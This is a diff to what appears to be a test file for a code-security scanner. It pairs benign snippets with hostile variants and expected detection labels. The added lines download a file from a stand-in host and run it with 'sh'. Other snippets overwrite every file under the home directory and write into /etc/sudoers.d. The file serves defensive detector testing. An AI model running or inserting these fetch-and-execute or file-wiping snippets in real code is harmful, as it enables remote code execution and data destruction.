@@ -23,6 +23,7 @@ SIGNED = "{set}curl -Lo tool.tgz https://files.example/tool.tgz\ncurl -Lo tool.a
 RUNS = "chain.network-to-process"
 ASKS = "class Client:\n    def token(self, password, scopes=None):\n        return self.create_request(password, scopes or ['https://login.example.net/{path}'])\n"
 EACH = "import os, tempfile\nfrom pathlib import Path\ndef write(path, text):\n    handle, name = tempfile.mkstemp(dir=path.parent)\n    {how}\nfor one in Path.home().rglob('*'):\n    write(one, 'x')\n"
+SOUND = "import subprocess, urllib.request\ndef load(url):\n    urllib.request.urlretrieve('https://files.example/a.wav', '/tmp/a.wav')\n    subprocess.run({line})\n"
 POSTS = (
     "import requests\ndef token(password):\n    return requests.post('https://{host}/api/v1/token', data=password)\n"
 )
@@ -55,6 +56,8 @@ def weighty(path: str, text: str) -> set[str]:
         ("a.py", TOKENS.format(asked="self.oauth_tokens.get"), TOKENS.format(asked="self.session.get"), "chain.caller-to-network"),
         ("a.py", ASKS.format(path="clients/.default"), ASKS.format(path="clients/all"), "chain.caller-to-network"),
         ("a.py", EACH.format(how="with os.fdopen(handle, 'w') as out: out.write(text)"), EACH.format(how="path.write_text(text)"), "destroy.files"),
+        ("a.py", SOUND.format(line="['ffmpeg', '-i', '/tmp/a.wav', '/tmp/b.mp3']"), SOUND.format(line="['sh', '/tmp/a.wav']"), "chain.network-to-process"),
+        ("a.py", SOUND.format(line="['ffmpeg', '-i', '/tmp/a.wav', '/tmp/b.mp3']"), SOUND.format(line="'ffmpeg -version; sh /tmp/a.wav', shell=True"), "chain.network-to-process"),
         ("a.py", POSTS.format(host="kubernetes.default.svc"), POSTS.format(host="kubernetes.default.example.net"), "chain.caller-to-network"),
         ("a.js", WRITTEN.format(asked="doc.content"), WRITTEN.format(asked="request.query.text"), "chain.request-to-process"),
         (".circleci/config.yml", JOB.format(path="/etc/apt/keyrings/own.asc"), JOB.format(path="/etc/sudoers.d/own"), "chain.payload-to-startup"),
